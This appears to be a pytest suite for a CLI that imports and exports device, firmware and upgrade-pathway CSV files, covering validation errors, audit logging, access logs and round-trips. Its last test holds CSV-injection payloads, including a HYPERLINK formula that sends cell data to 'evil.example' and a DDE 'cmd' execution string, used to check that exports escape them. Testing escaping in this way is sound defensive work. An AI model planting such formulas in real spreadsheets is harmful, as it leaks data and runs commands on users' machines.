"""`cpl-pathways import` and `export`: the examples fill an empty database, a second import
writes nothing, a bad file writes nothing and names its rows, and an export imports back
unchanged, on the backend under test (the command runs as a user runs it, in a subprocess)."""

from __future__ import annotations

import asyncio
import getpass
import json
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import text

from models.database import create_engine, migrate, session_factory
from models.tables import Webhook
from notifications.bus import change_bus
from notifications.channels import consumers
from resolvers.files.cpl_import import import_file, importer
from tests.harness import fresh_database
from tests.live import cli_env

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples"
CPL_HEADER = (EXAMPLES / "cpl.csv").read_text().splitlines()[0]
PATHWAY_HEADER = (EXAMPLES / "pathways.csv").read_text().splitlines()[0]


class Database:
    """An empty migrated database of the backend under test, and the command run against it."""

    def __init__(self, url: str, data_dir: Path) -> None:
        self.url = url
        self.env = cli_env(url, data_dir)

    def cli(self, *args: str | Path) -> subprocess.CompletedProcess:
        return subprocess.run(
            [sys.executable, "-m", "server.cli", *map(str, args)],
            cwd=ROOT,
            env=self.env,
            capture_output=True,
            text=True,
            timeout=120,
        )

    async def scalar(self, sql: str) -> object:
        engine = create_engine(self.url)
        try:
            async with engine.connect() as connection:
                return (await connection.execute(text(sql))).scalar()
        finally:
            await engine.dispose()

    async def counts(self) -> dict[str, object]:
        tables = ("manufacturer", "device", "firmware", "upgrade_pathway", "audit_event")
        found = {table: await self.scalar(f"SELECT count(*) FROM {table}") for table in tables}  # noqa: S608
        found["revision"] = await self.scalar("SELECT revision FROM data_revision")
        found["deliveries"] = await self.scalar("SELECT count(*) FROM webhook_delivery")
        return found


@pytest.fixture
async def db(tmp_path: Path) -> AsyncIterator[Database]:
    async with fresh_database(tmp_path) as url:
        engine = create_engine(url)
        await migrate(engine)
        await engine.dispose()
        yield Database(url, tmp_path / "data")


def write(path: Path, header: str, *rows: str, bom: bool = False) -> Path:
    path.write_text(("\ufeff" if bom else "") + "\n".join([header, *rows]) + "\n")
    return path


async def test_examples_fill_an_empty_database_and_a_second_import_writes_nothing(db) -> None:
    first = db.cli("import", EXAMPLES / "cpl.csv")
    assert first.returncode == 0, first.stderr
    assert "3 devices added" in first.stdout and "9 firmware added" in first.stdout
    pathways = db.cli("import", EXAMPLES / "pathways.csv")
    assert pathways.returncode == 0, pathways.stderr
    assert "6 pathways published" in pathways.stdout
    filled = await db.counts()
    assert filled["manufacturer"] == 2 and filled["device"] == 3
    assert filled["firmware"] == 9 and filled["upgrade_pathway"] == 6
    # One event per device, firmware and pathway, and one for the withdrawn firmware.
    assert filled["audit_event"] == 3 + 9 + 1 + 6
    actors = await db.scalar(
        "SELECT count(*) FROM audit_event WHERE actor_party_category = 'SECAS' "
        "AND actor_party_id IN ('import:cpl.csv', 'import:pathways.csv')"
    )
    assert actors == filled["audit_event"]

    for name in ("cpl.csv", "pathways.csv"):
        again = db.cli("import", EXAMPLES / name)
        assert again.returncode == 0, again.stderr
        assert again.stdout.startswith("Nothing to change")
    assert await db.counts() == filled  # the data revision did not move either


async def test_a_bad_file_writes_nothing_and_names_each_bad_row(db, tmp_path) -> None:
    assert db.cli("import", EXAMPLES / "cpl.csv").returncode == 0
    before = await db.counts()
    secret = "SECRET-STACK\x01"
    bad = write(
        tmp_path / "bad.csv",
        CPL_HEADER,
        "1A2B,,ESME,2001,,0100,,,,7A000001,,,2024-01-01",
        f"1A2B,,ESME,20X1,Heron,0100,,{secret},,7A00001,,,",
        "1A2B,,,2001,,0100,,,,2B000002,,FFFF,",
        "1A2B,,,2001,,0100,,,,1C000003,ACTIVE,,",
        "9F9F,,ESME,2001,Orphan,0100,,,,7A000001,,,",
        "1A2B,,,2001,Renamed ESME,0100,,,,,,,",
        "1A2B,,,2001,,0100,,,,7A000001,,,",
    )
    result = db.cli("import", bad)
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    problems = {int(line.split(":")[0].split()[1]): line for line in lines[:-1]}
    assert sorted(problems) == [3, 4, 5, 6, 7, 8]  # row 2 is good; the header is row 1
    assert "model_identifier must be 4 hex digits" in problems[3]
    assert "firmware_version must be 8 hex digits" in problems[3]
    assert "zigbee_stack_version must not contain control characters" in problems[3]
    assert "image_hash must be 64 hex digits" in problems[4]
    assert "withdrawn firmware cannot be made ACTIVE" in problems[5]
    assert "manufacturer_name is required for a new manufacturer" in problems[6]
    assert "model_name differs from the CPL's" in problems[7]
    assert "firmware_version repeats row 2" in problems[8]
    assert "SECRET" not in result.stderr + result.stdout
    assert "nothing written" in lines[-1]
    assert await db.counts() == before


async def test_a_pathways_file_is_checked_by_the_graph_rules_across_its_rows(db, tmp_path) -> None:
    assert db.cli("import", EXAMPLES / "cpl.csv").returncode == 0
    before = await db.counts()
    bad = write(
        tmp_path / "cycle.csv",
        PATHWAY_HEADER,
        "1A2B,2001,0100,3A000001,2B000002,",
        "1A2B,2001,0100,2B000002,3A000001,",
        "1A2B,2001,0100,3A000001,1C000003,",
        "1A2B,2001,0100,3A000001,3A000001,",
        "1A2B,2001,0100,3A000001,99999999,",
        "1A2B,2001,0100,3A000001,2B000002,again",
        "1A2B,7777,0100,3A000001,2B000002,",
    )
    result = db.cli("import", bad)
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert lines[0] == (
        "row 3: to_version: This pathway would close a cycle: 3A000001 → 2B000002 → 3A000001."
    )
    assert (
        lines[1] == "row 4: to_version: Firmware 1C000003 is withdrawn; nothing may upgrade to it."
    )
    assert lines[2] == "row 5: to_version: A pathway cannot lead from a version to itself."
    assert lines[3] == "row 6: to_version: Device has no firmware 99999999."
    assert lines[4] == "row 7: This pathway repeats row 2."
    assert lines[5].startswith("row 8: no device on the CPL has this manufacturer_identifier")
    assert await db.counts() == before


async def test_a_changed_row_is_an_update_with_its_event_outbox_row_and_one_revision(
    db, tmp_path
) -> None:
    assert db.cli("import", EXAMPLES / "cpl.csv").returncode == 0
    assert db.cli("import", EXAMPLES / "pathways.csv").returncode == 0
    engine = create_engine(db.url)
    async with session_factory(engine)() as session, session.begin():
        session.add(Webhook(party_id="supplier-1", url="http://127.0.0.1:9/hook", secret="s"))
    await engine.dispose()
    before = await db.counts()
    changed = write(
        tmp_path / "changed.csv",
        CPL_HEADER,
        "1A2B,,,2001,,0100,DUAL_BAND,,,0D000004,WITHDRAWN,,",
        "1A2B,,,2002,,0100,,,,6A000003,,,",
    )
    dry = db.cli("import", "--dry-run", changed)
    assert dry.returncode == 0, dry.stderr
    assert "withdraw firmware 0D000004 of 1A2B 2001 0100" in dry.stdout
    assert "set zigbee_band of 1A2B 2001 0100" in dry.stdout
    assert "add firmware 6A000003 of 1A2B 2002 0100" in dry.stdout
    assert await db.counts() == before

    result = db.cli("import", "--actor", "secas-ops", changed)
    assert result.returncode == 0, result.stderr
    after = await db.counts()
    assert after["revision"] == before["revision"] + 1
    assert after["audit_event"] == before["audit_event"] + 3
    assert after["deliveries"] == before["deliveries"] + 3
    actions = await db.scalar(
        "SELECT count(*) FROM audit_event WHERE actor_party_id = 'secas-ops' AND action IN "
        "('FIRMWARE_WITHDRAWN', 'ZIGBEE_INFORMATION_CHANGED', 'FIRMWARE_ADDED')"
    )
    assert actions == 3
    assert await db.scalar("SELECT zigbee_band FROM device WHERE model_identifier = '2001'") == (
        "DUAL_BAND"
    )
    # The empty SSC-only cells left the stored values as they were.
    assert await db.scalar(
        "SELECT zigbee_stack_version FROM device WHERE model_identifier = '2001'"
    ) == ("ZB-PRO 2017 r22")


async def test_notes_that_differ_are_corrected_through_the_correction_write(db, tmp_path) -> None:
    assert db.cli("import", EXAMPLES / "cpl.csv").returncode == 0
    assert db.cli("import", EXAMPLES / "pathways.csv").returncode == 0
    notes = write(tmp_path / "notes.csv", PATHWAY_HEADER, "1A2B,2001,0100,3a000001,2b000002,New")
    assert db.cli("import", notes).returncode == 0
    assert await db.scalar("SELECT revision FROM upgrade_pathway WHERE notes = 'New'") == 2
    assert (
        await db.scalar("SELECT count(*) FROM audit_event WHERE action = 'PATHWAY_CORRECTED'") == 1
    )


async def test_xlsx_and_a_csv_with_a_byte_order_mark_import_alike(db, tmp_path) -> None:
    rows = [line.split(",") for line in (EXAMPLES / "cpl.csv").read_text().splitlines()]
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    workbook.save(tmp_path / "cpl.xlsx")
    result = db.cli("import", tmp_path / "cpl.xlsx")
    assert result.returncode == 0, result.stderr
    assert (await db.counts())["firmware"] == 9
    text_with_bom = (EXAMPLES / "cpl.csv").read_text().splitlines()
    bom = write(tmp_path / "bom.csv", text_with_bom[0], *text_with_bom[1:], bom=True)
    again = db.cli("import", bom)
    assert again.returncode == 0 and again.stdout.startswith("Nothing to change"), again.stderr


async def test_a_header_of_no_known_kind_is_refused_naming_the_columns(db, tmp_path) -> None:
    odd = write(tmp_path / "odd.csv", CPL_HEADER.replace("firmware_version", "firmware"), "x")
    result = db.cli("import", odd)
    assert result.returncode == 1
    assert "missing column(s): firmware_version" in result.stderr
    assert "nothing written" in result.stderr
    workbook = db.cli("export", "devices", "--output", tmp_path / "cpl.xlsx")
    assert workbook.returncode != 0 and "writes CSV" in workbook.stderr
    assert not (tmp_path / "cpl.xlsx").exists()


async def test_an_export_imports_back_unchanged(db, own_database, tmp_path) -> None:
    """The demo CPL exported, imported into an empty database and exported again is the same
    file; importing it into the database it came from changes nothing."""
    source = Database(own_database, tmp_path / "source-data")
    files = {}
    for what in ("devices", "pathways"):
        files[what] = tmp_path / f"{what}.csv"
        exported = source.cli("export", what, "--include-ssc", "--output", files[what])
        assert exported.returncode == 0, exported.stderr
    public = source.cli("export", "devices")
    assert public.returncode == 0
    assert "Lumen Silicon" in files["devices"].read_text()
    assert "Lumen Silicon" not in public.stdout and "ZB-PRO" not in public.stdout
    unchanged = await source.counts()
    (tmp_path / "public.csv").write_text(public.stdout)
    for path in (files["devices"], tmp_path / "public.csv", files["pathways"]):
        result = source.cli("import", path)
        assert result.stdout.startswith("Nothing to change"), result.stdout + result.stderr
    assert await source.counts() == unchanged

    for what in ("devices", "pathways"):
        assert db.cli("import", files[what]).returncode == 0
    for what in ("devices", "pathways"):
        again = db.cli("export", what, "--include-ssc")
        assert again.stdout == files[what].read_text()


async def access_log(database: Database) -> list[tuple]:
    engine = create_engine(database.url)
    try:
        async with engine.connect() as connection:
            rows = await connection.execute(
                text("SELECT actor_sub, actor_party_id, operation_name, fields, device_ids "
                     "FROM ssc_access ORDER BY id")
            )  # fmt: skip
            return [tuple(json.loads(v) if k > 2 and isinstance(v, str) else v
                          for k, v in enumerate(row)) for row in rows]  # fmt: skip
    finally:
        await engine.dispose()


async def test_an_export_with_the_ssc_columns_is_in_the_ssc_access_log(db, tmp_path) -> None:
    """Who ran it (the OS user), where the values went (or `--actor`), the two fields and
    every exported device; a public export and a pathways export are no read."""
    assert db.cli("import", EXAMPLES / "cpl.csv").returncode == 0
    devices = int(await db.scalar("SELECT count(*) FROM device"))  # type: ignore[arg-type]
    assert db.cli("export", "devices", "--output", tmp_path / "public.csv").returncode == 0
    assert db.cli("export", "pathways", "--include-ssc").returncode == 0
    assert await access_log(db) == []
    first = db.cli("export", "devices", "--include-ssc", "--output", tmp_path / "ssc.csv")
    second = db.cli("export", "devices", "--include-ssc", "--actor", "SSC-PANEL")
    assert first.returncode == 0 and second.returncode == 0, first.stderr + second.stderr
    fields = [
        "Device.zigbeeChipsetVendor",
        "Device.zigbeeStackVersion",
        "Firmware.zigbeeStackVersion",
    ]
    operation = "cpl-pathways export devices --include-ssc"
    user = f"cli:{getpass.getuser()}"
    ids = list(range(1, devices + 1))
    assert await access_log(db) == [
        (user, "export:ssc.csv", operation, fields, ids),
        (user, "SSC-PANEL", operation, fields, ids),
    ]


async def test_without_its_access_log_entry_an_ssc_export_writes_nothing(db, tmp_path) -> None:
    assert db.cli("import", EXAMPLES / "cpl.csv").returncode == 0
    engine = create_engine(db.url)
    async with engine.begin() as connection:
        await connection.execute(text("DROP TABLE ssc_access"))
    await engine.dispose()
    result = db.cli("export", "devices", "--include-ssc", "--output", tmp_path / "ssc.csv")
    assert result.returncode == 1
    assert "the SSC access log cannot be written; nothing exported" in result.stderr
    assert (tmp_path / "ssc.csv").read_text() == ""
    public = db.cli("export", "devices")
    assert public.returncode == 0 and public.stdout.startswith(CPL_HEADER)


async def test_subscribers_hear_of_every_imported_change(db) -> None:
    """The import notifies like a mutation: in process on SQLite, by LISTEN/NOTIFY on
    PostgreSQL (through a listening bus, as a server's)."""
    engine = create_engine(db.url)
    sessions = session_factory(engine)
    bus = change_bus(db.url, sessions)
    await bus.start()
    try:
        async with bus.subscribe() as queue:
            if hasattr(bus, "listening"):
                await asyncio.wait_for(bus.listening.wait(), 10)
            path = EXAMPLES / "cpl.csv"
            result = await import_file(sessions, consumers(bus), path, importer(path))
            heard = [await asyncio.wait_for(queue.get(), 10) for _ in result.event_ids]
    finally:
        await bus.stop()
        await engine.dispose()
    assert len(heard) == 3 + 9 + 1
    assert heard == result.event_ids
    assert heard == sorted(heard)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "'=already quoted once",
]


async def test_would_be_formulas_are_exported_escaped_and_import_back_as_they_were(
    db, own_database, tmp_path
) -> None:
    """OWASP's CSV injection rule: a cell a spreadsheet would run is written behind a `'`,
    and the import removes that one `'`."""
    source = Database(own_database, tmp_path / "source-data")
    engine = create_engine(own_database)
    try:
        async with engine.begin() as connection:
            for n, formula in enumerate(FORMULAS, start=1):
                await connection.execute(
                    text("UPDATE device SET model_name = :v WHERE id = :id"),
                    {"v": formula, "id": n},
                )
                await connection.execute(  # the n-th pathway an export holds
                    text(
                        "UPDATE upgrade_pathway SET notes = :v WHERE id = (SELECT p.id "
                        "FROM upgrade_pathway p JOIN firmware f ON f.id = p.to_firmware_id "
                        "WHERE p.status = 'PUBLISHED' AND f.status = 'ACTIVE' "
                        "ORDER BY p.id LIMIT 1 OFFSET :n)"
                    ),
                    {"v": formula, "n": n},
                )
    finally:
        await engine.dispose()
    files = {}
    for what in ("devices", "pathways"):
        files[what] = tmp_path / f"{what}.csv"
        assert source.cli("export", what, "--output", files[what]).returncode == 0
        written = files[what].read_text()
        for formula in FORMULAS:
            assert f"'{formula}" in written.replace('""', '"')
        for line in written.splitlines():
            for cell in line.split(","):
                assert not cell.lstrip('"').startswith(("=", "+", "@", "-"))
    for what in ("devices", "pathways"):
        result = db.cli("import", files[what])
        assert result.returncode == 0, result.stdout + result.stderr
    for formula in FORMULAS:
        quoted = formula.replace("'", "''")
        assert await db.scalar(f"SELECT count(*) FROM device WHERE model_name = '{quoted}'") == 1  # noqa: S608
        assert (
            await db.scalar(f"SELECT count(*) FROM upgrade_pathway WHERE notes = '{quoted}'")  # noqa: S608
            == 1
        )
    for what in ("devices", "pathways"):
        assert db.cli("export", what).stdout == files[what].read_text()
